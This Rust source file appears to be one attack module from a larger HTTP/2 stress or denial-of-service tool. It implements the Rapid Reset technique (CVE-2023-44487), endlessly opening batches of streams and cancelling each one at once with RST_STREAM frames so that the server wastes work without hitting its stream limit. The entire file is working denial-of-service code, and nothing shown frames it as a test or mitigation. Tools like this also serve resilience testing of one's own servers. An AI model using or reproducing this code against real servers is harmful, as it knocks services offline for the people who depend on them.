//! Rapid reset: each stream is reset right after its request, so that the limit on open streams
//! is never reached and the work is done for nothing (CVE-2023-44487).

use super::frames::{self, RST_STREAM};
use super::ground::Ground;
use super::http2::{BATCH, on_connection};

/// CANCEL.
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();

pub(super) async fn attack(ground: &Ground<'_>) {
    on_connection(ground, &[], async |connection| {
        loop {
            let streams = connection.leave(BATCH).await?;
            for _ in 0..streams {
                let stream = connection.put_request();
                frames::put(&mut connection.output, RST_STREAM, 0, stream, &CANCEL);
            }
            connection.send(streams).await?;
        }
    })
    .await;
}
